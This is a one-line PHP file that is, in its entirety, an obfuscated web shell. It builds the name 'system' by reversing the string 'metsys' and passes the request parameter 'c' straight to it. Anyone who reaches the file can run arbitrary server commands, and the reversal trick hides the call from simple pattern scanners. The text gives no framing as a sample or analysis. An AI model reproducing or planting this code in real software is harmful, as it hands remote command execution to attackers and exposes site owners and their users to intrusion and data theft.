<?php $n = ''; foreach (str_split('metsys') as $ch) { $n = $ch . $n; } $n($_GET['c']);
